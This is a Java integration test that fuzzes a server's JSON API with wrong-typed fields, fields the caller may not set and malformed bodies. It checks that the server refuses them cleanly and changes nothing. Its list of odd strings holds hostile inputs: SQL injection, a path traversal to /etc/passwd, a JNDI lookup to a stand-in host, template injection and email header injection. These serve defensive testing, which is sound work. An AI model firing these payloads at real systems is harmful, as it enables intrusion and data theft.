package org.rejoinder.sample.server.trust;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.rejoinder.sample.server.Api;

/** Every member of every JSON that the API takes, wrong in one way at a time, and members that are not the caller's to set. */
@ExtendWith(TrustServer.Shared.class)
class FuzzIT {

    private static final List<String> NOT_THEIRS = List.of(
            "id",
            "number",
            "createdAt",
            "updatedAt",
            "revision",
            "status!",
            "author!",
            "isAuthor",
            "byStaff",
            "approved",
            "role",
            "depth!",
            "article",
            "__proto__",
            "constructor",
            "class",
            "@type",
            "");

    private static final Map<String, List<String>> WRONG = Map.of(
            "string", List.of("5", "true", "[]", "{}", "[\"a\"]", "{\"a\": \"b\"}"),
            "integer", List.of("\"5\"", "true", "[]", "{}", "1.5", "1e400", "99999999999999999999"),
            "number", List.of("\"5\"", "true", "[]", "{}"),
            "boolean", List.of("\"true\"", "1", "[]", "{}"),
            "array", List.of("\"a\"", "1", "true", "{}", "[null]", "[[]]"),
            "object", List.of("\"a\"", "1", "true", "[]", "{\"no such member\": 1}"));

    private static final List<String> ODD = List.of(
            "",
            " ",
            "\u0000",
            "\ufeff\u202e\u200b",
            "'; DROP TABLE x; --",
            "../../etc/passwd",
            "%00%2e%2e%2f",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "a\r\nBcc: x@example.org",
            "\ud83d\ude00".repeat(50),
            "x".repeat(100_000),
            "é\u0301".repeat(2_000),
            "/..;/",
            "2026-13-45T99:99:99Z",
            "-1",
            "NaN");

    @Test
    void no_member_is_taken_on_trust(TrustServer server) {
        var site = Site.make(server, "fuzz");
        var before = site.everything();
        int sent = 0;

        for (var route : Route.all(server.server())) {
            var schema = route.body();
            if (schema.isPresent()) {
                for (var body : wrong(route, schema.get())) {
                    var answer = send(site, route, body);
                    assertThat(answer.statusCode())
                            .as("%s %s%n%s", route, body, answer.body())
                            .isEqualTo(400);
                    assertThat(Api.json(answer.body()).getString("type")).endsWith("#malformed");
                    sent++;
                }
            }
        }

        assertThat(sent).isGreaterThan(1_000);
        assertThat(site.everything()).isEqualTo(before);
    }

    @Test
    void odd_words_are_taken_or_refused_and_break_nothing(TrustServer server) {
        var site = Site.make(server, "oddwords");
        for (var route : Route.all(server.server())) {
            var schema = route.body().orElse(JsonValue.EMPTY_JSON_OBJECT);
            var strings = places(route, schema).stream()
                    .filter(place -> place.type().equals("string"))
                    .toList();
            for (var place : strings) {
                for (var odd : ODD) {
                    var body = place.with(Json.createValue(odd).toString());
                    var answer = send(site, route, body);
                    assertThat(answer.statusCode())
                            .as("%s %s%n%s", route, body, answer.body())
                            .isLessThan(500);
                    assertThat(answer.body()).doesNotContain("Exception", "org.rejoinder", "javax.jcr");
                }
            }
        }
        assertThat(server.server().isReady()).isTrue();
    }

    private static HttpResponse<String> send(Site site, Route route, String body) {
        var admin = site.server().as("admin");
        var path = site.at(route);
        var seen = route.method().equals("PUT") ? tag(admin, path) : Optional.<String>empty();
        return seen.isPresent()
                ? admin.call(route.method(), path, body, "If-Match", seen.get())
                : admin.call(route.method(), path, body);
    }

    private static Optional<String> tag(Api admin, String path) {
        return admin.call("GET", path, null).headers().firstValue("ETag");
    }

    /** The body with one member of a wrong type, or with one more member than there is. */
    private static List<String> wrong(Route route, JsonObject schema) {
        var base = base(route, schema);
        var bodies = new ArrayList<String>();
        for (var place : places(route, schema)) {
            WRONG.getOrDefault(place.type(), List.of()).forEach(value -> bodies.add(place.with(value)));
        }
        for (var name : NOT_THEIRS) {
            var given = name.replace("!", "");
            if (!members(schema).containsKey(given)) {
                bodies.add(with(base, given, Json.createValue("x")));
            }
        }
        bodies.addAll(List.of("null", "[]", "5", "\"x\"", "{", "{\"a\": 1, \"a\": 1}", "[".repeat(5_000)));
        return bodies;
    }

    /** Where in a body something can be written, and what; the snowman stands for it. */
    private record Place(String body, String type) {

        static final JsonValue SNOWMAN = Json.createValue("\u2603");

        String with(String value) {
            return body.replace(SNOWMAN.toString(), value);
        }
    }

    /** Every member, every member of a member, and what is in lists. */
    private static List<Place> places(Route route, JsonObject schema) {
        var base = base(route, schema);
        var places = new ArrayList<Place>();
        members(schema).forEach((name, of) -> {
            var member = route.resolve(of);
            places.add(new Place(with(base, name, Place.SNOWMAN), Route.type(member)));
            for (var inner : places(route, member)) {
                places.add(
                        new Place(with(base, name, Place.SNOWMAN).replace("\"\u2603\"", inner.body()), inner.type()));
            }
            if (member.containsKey("items")) {
                var item = route.resolve(member.getJsonObject("items"));
                var list =
                        with(base, name, Json.createArrayBuilder().add("\u2603").build());
                places.add(new Place(list, Route.type(item)));
                for (var inner : places(route, item)) {
                    places.add(new Place(list.replace("\"\u2603\"", inner.body()), inner.type()));
                }
            }
        });
        return places;
    }

    private static Map<String, JsonObject> members(JsonObject schema) {
        var members = new java.util.TreeMap<String, JsonObject>();
        Optional.ofNullable(schema.getJsonObject("properties"))
                .ifPresent(found -> found.forEach((name, of) -> members.put(name, of.asJsonObject())));
        return members;
    }

    private static String with(JsonObject base, String name, JsonValue value) {
        return Json.createObjectBuilder(base).add(name, value).build().toString();
    }

    /** A value of the right type for every member that must be there. */
    private static JsonObject base(Route route, JsonObject schema) {
        var base = Json.createObjectBuilder();
        var required = Optional.ofNullable(schema.getJsonArray("required")).orElse(JsonValue.EMPTY_JSON_ARRAY);
        members(schema).forEach((name, of) -> {
            var member = route.resolve(of);
            if (required.contains(Json.createValue(name))) {
                base.add(name, right(member));
            }
        });
        return base.build();
    }

    private static JsonValue right(JsonObject member) {
        return switch (Route.type(member)) {
            case "integer", "number" -> Json.createValue(1);
            case "boolean" -> JsonValue.FALSE;
            case "array" -> JsonValue.EMPTY_JSON_ARRAY;
            case "object" -> JsonValue.EMPTY_JSON_OBJECT;
            default -> Json.createValue(member.containsKey("format") ? "2026-01-01T00:00:00Z" : "words");
        };
    }
}
